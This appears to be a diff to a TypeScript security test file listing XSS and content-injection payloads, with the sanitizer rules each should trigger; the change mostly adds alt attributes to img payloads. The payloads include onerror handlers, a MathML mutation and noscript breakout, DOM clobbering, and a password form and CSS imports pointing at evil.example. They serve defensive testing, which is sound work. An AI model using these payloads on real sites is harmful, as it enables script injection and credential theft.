@@ -34,7 +34,7 @@ const ATTACKS: readonly Attack[] = [
   ['11 huge front matter', `---\na: ${repeat('x', 1_000_000)}\n---\n\nText`, []],
   [
     '12 inner HTML',
-    '<div dangerouslySetInnerHTML={{ __html: "<img src=x onerror=canary()>" }} />',
+    '<div dangerouslySetInnerHTML={{ __html: "<img alt=x src=x onerror=canary()>" }} />',
     ['content/needs-browser'],
   ],
   ['13 script', '<script>{`canary()`}</script>', ['content/tag']],
@@ -62,15 +62,19 @@ const ATTACKS: readonly Attack[] = [
   ['19 use of a data address', '<svg><use href="data:image/svg+xml,x" /></svg>', ['link/unsafe']],
   [
     '20 mutation of MathML',
-    '<math><mtext><table><mglyph><style><img src="x" onerror="canary()" /></style></mglyph></table></mtext></math>',
+    '<math><mtext><table><mglyph><style><img alt="x" src="x" onerror="canary()" /></style></mglyph></table></mtext></math>',
     ['content/tag', 'content/tag', 'content/tag', 'content/tag', 'content/needs-browser'],
   ],
   [
     '21 raw text breakout',
-    '<noscript><b title="</noscript><img src=x onerror=canary()>">a</b></noscript>',
+    '<noscript><b title="</noscript><img alt=x src=x onerror=canary()>">a</b></noscript>',
     ['content/tag'],
   ],
-  ['22 handler of an image', '<img src="x" onerror="canary()" />', ['content/needs-browser']],
+  [
+    '22 handler of an image',
+    '<img alt="x" src="x" onerror="canary()" />',
+    ['content/needs-browser'],
+  ],
   ['23 spread handler', '<div {...{ onClick: "canary()" }}>a</div>', ['content/needs-browser']],
   [
     '24 computed name of a prop',
@@ -106,7 +110,11 @@ const ATTACKS: readonly Attack[] = [
     '<form action="https://evil.example"><input name="password" type="password" /></form>',
     ['content/attribute', 'content/tag'],
   ],
-  ['34 clobbering', '<img name="body" id="__NEXT_DATA__" src="/a.png" />', ['content/attribute']],
+  [
+    '34 clobbering',
+    '<img alt="x" name="body" id="__NEXT_DATA__" src="/a.png" />',
+    ['content/attribute'],
+  ],
   [
     '35 rules that load',
     '<style>{`@import "https://evil.example"`}</style> <div style="background: url(https://evil.example)">a</div>',
